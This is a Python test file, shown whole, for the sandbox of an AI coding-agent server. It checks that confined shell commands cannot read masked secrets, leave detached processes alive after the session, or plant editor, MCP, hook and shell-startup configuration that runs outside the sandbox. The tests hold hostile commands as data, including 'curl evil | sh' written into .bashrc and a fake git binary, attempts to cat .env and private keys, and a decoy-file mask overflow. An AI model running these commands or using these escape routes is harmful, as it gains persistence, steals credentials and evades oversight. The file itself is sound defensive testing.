    res = await BashTool().run(BashArgs(command="cat .env certs/server.pem; echo rc=$?"), ctx)
    assert "real-secret" not in res.text and "PRIVATE KEY" not in res.text and "Permission denied" in res.text
    assert launcher.secret_overflow() is None  # the decoys are the session's own: no question either


async def test_more_secret_files_than_the_masks_hold_make_every_command_ask_saying_why(box):
    ws, home, tmp, log = box
    for i in range(1001):
        (ws / f"k{i}.pem").write_text("x")
    policy = PolicySettings()
    launcher = ShellConfiner(ModeState(log, "workspace-write"), await probe_status(policy), [ws], tmp, policy)
    reason = launcher.secret_overflow()
    assert reason is not None and "at most 1000" in reason and "could read some of them" in reason


def _detached(marker: str) -> str:
    """A command that leaves a setsid child ignoring SIGTERM and SIGHUP, whose command line holds ``marker``."""
    return (f"setsid bash -c \"trap '' TERM HUP; exec sleep {marker}\" > /dev/null 2>&1 < /dev/null & "
            "echo detached")


def _running(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and marker in (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode():
                if (entry / "stat").read_text().rsplit(")", 1)[1].split()[0] != "Z":
                    found.append(int(entry.name))
        except OSError:
            continue
    return found


async def _gone(marker: str) -> bool:
    for _ in range(100):  # the reaper's kill is under way when the call returns: a bounded look
        if not _running(marker):
            return True
        await asyncio.sleep(0.05)
    return False


@pytest.mark.parametrize("settings", [{}, {"sandbox": "off"}], ids=["danger-full-access", "no-landlock"])
async def test_unconfined_shell_calls_let_a_setsid_child_outlive_them(box, settings):
    """Issue 32 §11: in danger-full-access (or with no sandbox at all) a command was stopped by its
    process group only: a child it detached with setsid, ignoring SIGTERM and SIGHUP, outlived the
    call and the session. It is now run under a child subreaper that kills the whole tree."""
    from agent_server.config.views import MODES

    marker = f"{uuid.uuid4().int % 10**6 + 10**6}.0625"
    mode = DANGER_FULL_ACCESS if not settings else "workspace-write"
    res = await run(box, _detached(marker), mode=mode, **settings)
    try:
        assert "detached" in res.text and res.meta["sandbox"]["sandbox"] == "none"
        assert await _gone(marker), _running(marker)
    finally:
        for pid in _running(marker):
            os.kill(pid, 9)
    assert "outlive" not in MODES[DANGER_FULL_ACCESS].description


def test_unconfined_shell_calls_of_a_normal_user_let_no_setsid_child_outlive_them():
    marker = f"{uuid.uuid4().int % 10**6 + 10**6}.1875"
    ws, (out,) = as_normal_user(lambda ws: None, [_detached(marker)], mode=DANGER_FULL_ACCESS)
    try:
        assert "detached" in out
        assert asyncio.run(_gone(marker)), _running(marker)
    finally:
        for pid in _running(marker):
            os.kill(pid, 9)
        shutil.rmtree(ws.parent, ignore_errors=True)


# -- issue 32 §4: editor configuration outside the read-only set -----------------------------------


async def test_editor_rc_files_and_sub_folder_configuration_made_by_a_confined_command_are_put_back(box):
    """.vimrc (sourced by Vim with 'exrc'), .helix/, .devcontainer/ at the root: read-only (mounts and
    placeholders). Sub-folders' .vscode/ and .nvim.lua, *.code-workspace, a sub-folder's
    devcontainer.json: seen after the command, put back, and the result says so."""
    ws, *_ = box
    (ws / "pkg" / ".helix").mkdir(parents=True)
    (ws / "pkg" / ".helix" / "languages.toml").write_text("# mine\n")
    res = await run(box, """
        echo 'set shell=/tmp/x' > .vimrc; echo vimrc=$?
        echo x > _vimrc; echo _vimrc=$?
        mkdir -p .helix && echo '[editor]' > .helix/config.toml; echo helix=$?
        mkdir -p .devcontainer && echo '{"initializeCommand": "id"}' > .devcontainer/devcontainer.json; echo dev=$?
        mkdir -p sub/.vscode && echo '{"agentServer.path": "/tmp/x"}' > sub/.vscode/settings.json; echo subvs=$?
        echo 'os.execute("id")' > sub/.nvim.lua; echo subnvim=$?
        echo '{"settings": {}}' > team.code-workspace; echo ws=$?
        echo 'command = "id"' >> pkg/.helix/languages.toml; echo pkghelix=$?
        echo ok > plain.txt && echo fine
    """)
    out = res.text
    for step in ("vimrc", "_vimrc", "helix", "dev"):
        assert f"{step}=0" not in out.splitlines(), (step, out)
    for name in (".vimrc", "_vimrc", ".helix", ".devcontainer"):
        assert not os.path.lexists(ws / name), f"{name} was created (or its placeholder left behind)"
    assert not (ws / "sub" / ".vscode" / "settings.json").exists() and not (ws / "sub" / ".nvim.lua").exists()
    assert not (ws / "team.code-workspace").exists()
    assert (ws / "pkg" / ".helix" / "languages.toml").read_text() == "# mine\n"
    assert (ws / "plain.txt").read_text() == "ok\n" and "fine" in out
    assert "was put back" in out and "sub/.nvim.lua" in out and "team.code-workspace" in out
    assert res.meta["editor_config_reverted"]


@pytest.mark.parametrize("keep", [False, True])
def test_editor_configuration_a_normal_users_confined_command_made_in_a_sub_folder_was_put_back_without_asking(keep):
    def prepare(ws):
        (ws / "app" / ".vscode").mkdir(parents=True)
        (ws / "app" / ".vscode" / "settings.json").write_text('{"mine": 1}\n')

    ws, (out, asked) = as_normal_user(prepare, ["""
        mkdir -p sub/.vscode && echo '{"tasks": []}' > sub/.vscode/tasks.json
        echo '{"folders": []}' > team.code-workspace
        echo '{"theirs": 1}' > app/.vscode/settings.json
    """], keep=keep)
    try:
        changed = ["app/.vscode/settings.json", "sub/.vscode/tasks.json", "team.code-workspace"]
        assert json.loads(asked) == [changed], out
        settings = (ws / "app" / ".vscode" / "settings.json").read_text()
        if keep:
            assert settings == '{"theirs": 1}\n' and (ws / "sub" / ".vscode" / "tasks.json").exists()
            assert (ws / "team.code-workspace").read_text() == '{"folders": []}\n' and "the user kept" in out
        else:
            assert settings == '{"mine": 1}\n' and not (ws / "sub" / ".vscode" / "tasks.json").exists()
            assert not (ws / "team.code-workspace").exists() and "stays put back" in out
    finally:
        shutil.rmtree(ws.parent, ignore_errors=True)


def test_decoy_files_pushed_real_secrets_out_of_the_masks_of_a_normal_user():
    def prepare(ws):
        (ws / ".env").write_text("API_TOKEN=real-secret\n")
        (ws / "certs").mkdir()
        (ws / "certs" / "server.pem").write_text("-----BEGIN PRIVATE KEY-----\n")

    ws, (made, read) = as_normal_user(prepare, [
        "mkdir a && cd a && for i in $(seq 0 1000); do : > ./-$i.pem; done; ls | wc -l",
        "cat .env certs/server.pem; echo rc=$?"])
    try:
        assert "1001" in made
        assert "real-secret" not in read and "PRIVATE KEY" not in read and "Permission denied" in read
    finally:
        shutil.rmtree(ws.parent, ignore_errors=True)


def test_editor_rc_files_and_sub_folder_configuration_of_a_normal_user_are_held_and_put_back():
    ws, (out,) = as_normal_user(lambda ws: None, ["""
        echo 'set shell=/tmp/x' > .vimrc; echo vimrc=$?
        mkdir -p .helix && echo '[editor]' > .helix/config.toml; echo helix=$?
        mkdir -p sub/.vscode && echo '{}' > sub/.vscode/settings.json; echo subvs=$?
        echo '{"settings": {}}' > team.code-workspace; echo ws=$?
    """])
    try:
        assert "vimrc=0" not in out.splitlines() and "helix=0" not in out.splitlines()
        assert not os.path.lexists(ws / ".vimrc") and not os.path.lexists(ws / ".helix")
        assert not (ws / "sub" / ".vscode" / "settings.json").exists() and not (ws / "team.code-workspace").exists()
        assert "was put back" in out
    finally:
        shutil.rmtree(ws.parent, ignore_errors=True)


async def _policy_session(box, answer):
    """A confined session through its ``SessionPolicy`` (the question goes to a fake user answering
    ``answer``); returns the tool context, the asked questions and the log."""
    from agent_server.policy.approvals import Answer
    from agent_server.policy.engine import SessionPolicy

    ws, home, tmp, log = box
    asked = []

    class User:
        async def ask(self, question):
            asked.append(question)
            return Answer("selected", answer)

    async def emit(_update):
        pass

    settings = PolicySettings()
    policy = SessionPolicy(log, [ws], settings, ModeState(log, "workspace-write"), User(), emit, tmp,
                           status=await probe_status(settings))
    env = {"PATH": os.environ["PATH"], "HOME": str(home), "LANG": "C.UTF-8"}
    disk = ToolContext.on_disk(ws)
    return ToolContext(disk.roots, disk.files, disk.reads, env=env, shell_launcher=policy.shell_launcher), asked, log


@pytest.mark.parametrize("answer", ["reject_once", "allow_once"])
async def test_editor_configuration_a_confined_command_made_in_a_sub_folder_was_put_back_without_asking(box, answer):
    """Issue 32 §4: a sub-folder's .vscode/tasks.json, a devcontainer.json and a *.code-workspace made
    (and a user's one changed) by a confined command were put back and nobody was asked. Now the user
    is asked, with each change as a diff; "keep" makes the command's version again."""
    ws, *_ = box
    (ws / "app" / ".vscode").mkdir(parents=True)
    (ws / "app" / ".vscode" / "settings.json").write_text('{"mine": 1}\n')
    ctx, asked, log = await _policy_session(box, answer)
    res = await BashTool().run(BashArgs(command="""
        mkdir -p sub/.vscode && echo '{"tasks": []}' > sub/.vscode/tasks.json
        mkdir -p svc/.devcontainer && echo '{"initializeCommand": "id"}' > svc/.devcontainer/devcontainer.json
        echo '{"folders": []}' > team.code-workspace
        echo '{"theirs": 1}' > app/.vscode/settings.json
        echo plain > plain.txt
    """), ctx)
    changed = ["app/.vscode/settings.json", "sub/.vscode/tasks.json", "svc/.devcontainer/devcontainer.json",
               "team.code-workspace"]
    assert len(asked) == 1, res.text
    question = asked[0]
    assert question.options == ("allow_once", "reject_once") and question.kind == "edit"
    diffs = {Path(c["path"]).relative_to(ws).as_posix(): c for c in question.content if c["type"] == "diff"}
    assert sorted(diffs) == changed
    assert diffs["app/.vscode/settings.json"]["oldText"] == '{"mine": 1}\n'
    assert diffs["app/.vscode/settings.json"]["newText"] == '{"theirs": 1}\n'
    assert diffs["sub/.vscode/tasks.json"]["oldText"] is None
    decision = [e.data for e in log.events if e.type == "policy/decision"][-1]
    assert decision["rule"] == "editor-config-shell"
    assert (ws / "plain.txt").read_text() == "plain\n"
    if answer == "reject_once":
        assert decision["outcome"] == "deny" and "stays put back" in res.text
        assert (ws / "app" / ".vscode" / "settings.json").read_text() == '{"mine": 1}\n'
        for rel in changed[1:]:
            assert not (ws / rel).exists(), rel
    else:
        assert decision["outcome"] == "allow" and "the user kept" in res.text
        assert (ws / "app" / ".vscode" / "settings.json").read_text() == '{"theirs": 1}\n'
        assert (ws / "sub" / ".vscode" / "tasks.json").read_text() == '{"tasks": []}\n'
        assert (ws / "team.code-workspace").read_text() == '{"folders": []}\n'
        assert sorted(Path(p).relative_to(ws).as_posix() for p in res.meta["editor_config_kept"]) == changed
    again = await BashTool().run(BashArgs(command="echo still > plain.txt"), ctx)
    assert len(asked) == 1 and "start-up configuration" not in again.text  # nothing changed: nobody asked


async def test_the_editor_configuration_watch_lists_only_changed_folders_and_reads_only_changed_files(box):
    """The watch walked the whole tree twice per confined command: now a folder is listed again only
    when its identity changed, a file read again only when its own did — counted, no clock."""
    from agent_server.policy import editor_config

    ws, *_ = box
    for i in range(30):
        (ws / f"d{i}" / "e").mkdir(parents=True)
        (ws / f"d{i}" / "e" / "f.py").write_text("x\n")
    (ws / "d3" / ".vscode").mkdir()
    (ws / "d3" / ".vscode" / "settings.json").write_text("{}\n")
    index = editor_config.ConfigIndex([ws])
    saved = editor_config.RACY_NS
    editor_config.RACY_NS = -1  # every change of this test is "just now": trust identities for the count
    try:
        first = index.look()
        listed, read = index.listed, index.read
        assert listed == 1 + 30 * 2 + 1 and read == 1 and list(first) == [str(ws / "d3" / ".vscode" / "settings.json")]
        assert index.look() == first and (index.listed, index.read) == (listed, read)
        (ws / "d7" / "e" / "x.code-workspace").write_text("{}")
        (ws / "d3" / ".vscode" / "settings.json").write_text('{"a": 1}\n')
        now = index.look()
        assert index.listed == listed + 1 and index.read == read + 2
        assert now[str(ws / "d7" / "e" / "x.code-workspace")][0] == b"{}"
    finally:
        editor_config.RACY_NS = saved


async def test_putting_editor_configuration_back_never_follows_a_swapped_link_nor_hangs_on_a_fifo(box):
    """Attacks on the put-back itself: a FIFO named like configuration (reading it would block the
    server's thread for ever), a folder on the way swapped for a link out of the tree (putting back
    through it would write outside), a user's configuration link re-pointed, a big file changed
    (not kept: the user is told it could not be put back)."""
    ws, home, *_ = box
    (ws / "app" / ".vscode").mkdir(parents=True)
    (ws / "app" / ".vscode" / "settings.json").write_text('{"mine": 1}\n')
    (ws / "common").mkdir()
    (ws / "pkg").mkdir()
    os.symlink("../common", ws / "pkg" / ".vscode")
    (ws / "big").mkdir()
    (ws / "big" / "huge.code-workspace").write_bytes(b"{}" + b" " * (2 << 20))
    ctx, asked, log = await _policy_session(box, "reject_once")
    res = await asyncio.wait_for(BashTool().run(BashArgs(command=f"""
        mkdir -p sub && mkfifo sub/.nvim.lua
        mv app app.moved && ln -s {home} app
        ln -sfn ../elsewhere pkg/.vscode
        printf x >> big/huge.code-workspace
        echo done
    """), ctx), HANG)
    assert "done" in res.text
    assert not os.path.lexists(ws / "sub" / ".nvim.lua")
    assert not (home / ".vscode").exists(), "put back through a link, outside the tree"
    assert os.readlink(ws / "pkg" / ".vscode") == "../common"
    (question,) = asked
    said = " ".join(c["content"]["text"] for c in question.content if c["type"] == "content")
    assert "big/huge.code-workspace: changed by the command" in said and "could NOT be put back" in said
    assert "app/.vscode/settings.json could not be put back" in said  # its bytes are saved, not lost
    saved = said.split("your version is saved at ")[1].split(" ")[0].rstrip(".")
    assert Path(saved).read_text() == '{"mine": 1}\n' and str(ws) not in saved


async def test_ai_editors_and_emacs_configuration_made_by_a_confined_command_was_obeyed_outside_the_sandbox(box):
    """The class of §4 beyond its list: Cursor's .cursor/mcp.json and a project .mcp.json start MCP
    servers, Claude Code's .claude/settings.json runs hooks, Emacs's .dir-locals.el sets a
    compile-command, a .sublime-project holds build systems — at the root too: put back, then asked."""
    ws, *_ = box
    ctx, asked, _ = await _policy_session(box, "reject_once")
    res = await BashTool().run(BashArgs(command="""
        mkdir -p .cursor .claude && echo '{"mcpServers": {"x": {"command": "id"}}}' > .cursor/mcp.json
        echo '{"hooks": {}}' > .claude/settings.json
        echo '{"mcpServers": {}}' > .mcp.json
        mkdir -p lib && echo '((nil . ((compile-command . "id"))))' > lib/.dir-locals.el
        echo '{"build_systems": []}' > x.sublime-project
    """), ctx)
    made = [".claude/settings.json", ".cursor/mcp.json", ".mcp.json", "lib/.dir-locals.el", "x.sublime-project"]
    for rel in made:
        assert not (ws / rel).exists(), (rel, res.text)
    (question,) = asked
    assert sorted(Path(c["path"]).relative_to(ws).as_posix() for c in question.content if c["type"] == "diff") == made


async def test_a_workspace_holding_the_home_folder_let_a_confined_command_plant_shell_startup_files(box, monkeypatch):
    """The class of §1 and §4 (what runs outside the sandbox on its own): with the workspace opened on
    the home folder, a confined command appended to ~/.bashrc, made ~/.local/bin/git and an autostart
    entry — run at the user's next shell, git command or login. Put back, then asked."""
    ws, *_ = box
    monkeypatch.setenv("HOME", str(ws))
    (ws / ".bashrc").write_text("alias ll='ls -l'\n")
    ctx, asked, _ = await _policy_session(box, "reject_once")
    res = await BashTool().run(BashArgs(command="""
        echo 'curl evil | sh' >> .bashrc
        mkdir -p .local/bin .config/autostart && printf '#!/bin/sh\\ncurl evil | sh\\n' > .local/bin/git
        echo '[Desktop Entry]' > .config/autostart/x.desktop
        echo '[alias]' > .gitconfig
        echo plain > notes.txt
    """), ctx)
    assert (ws / ".bashrc").read_text() == "alias ll='ls -l'\n", res.text
    for rel in (".local/bin/git", ".config/autostart/x.desktop", ".gitconfig"):
        assert not (ws / rel).exists(), rel
    assert (ws / "notes.txt").read_text() == "plain\n"
    (question,) = asked
    assert sorted(Path(c["path"]).relative_to(ws).as_posix() for c in question.content if c["type"] == "diff") == \
        [".bashrc", ".config/autostart/x.desktop", ".gitconfig", ".local/bin/git"]


async def test_thousands_of_planted_configuration_files_made_one_unbounded_question(box):
    ws, *_ = box
    ctx, asked, log = await _policy_session(box, "reject_once")
    res = await BashTool().run(BashArgs(command="mkdir d && cd d && for i in $(seq 1 3000); do : > $i.code-workspace; done"),
                               ctx)
    assert not list((ws / "d").iterdir()), res.text[-300:]
    (question,) = asked
    assert len([c for c in question.content if c["type"] == "diff"]) == 50
    assert any("2950 more files" in c["content"]["text"] for c in question.content if c["type"] == "content")
    decision = [e.data for e in log.events if e.type == "policy/decision"][-1]
    assert decision["count"] == 3000 and len(decision["paths"]) == 1000
    assert "and 2950 more" in res.text and len(res.meta["editor_config_reverted"]) == 1000


async def test_credential_folders_and_path_patterns_spelled_in_another_case_stayed_visible_to_a_confined_command(
        box, monkeypatch):
    """The shell's masks took ``~/.ssh`` and a configured path pattern's glob (``~/vault/*.key``) as
    written: ``~/.SSH/id_rsa`` and ``~/vault/PROD.KEY`` — which the file tools refuse or ask about in
    any case — were readable by a confined command. They are hidden in any case now."""
    ws, home, tmp, log = box
    monkeypatch.setenv("HOME", str(home))
    (home / ".SSH").mkdir()
    (home / ".SSH" / "id_rsa").write_text("SSH-MATERIAL\n")
    (home / "vault").mkdir()
    (home / "vault" / "PROD.KEY").write_text("VAULT-MATERIAL\n")
    (home / "vault" / "notes.txt").write_text("plain text\n")
    res = await run(box, "cat ~/.SSH/id_rsa; cat ~/vault/PROD.KEY; cat ~/vault/notes.txt",
                    secret_patterns=[".env*", "~/.ssh/**", "~/vault/*.key"])
    assert "MATERIAL" not in res.text and "Permission denied" in res.text and "plain text" in res.text, res.text
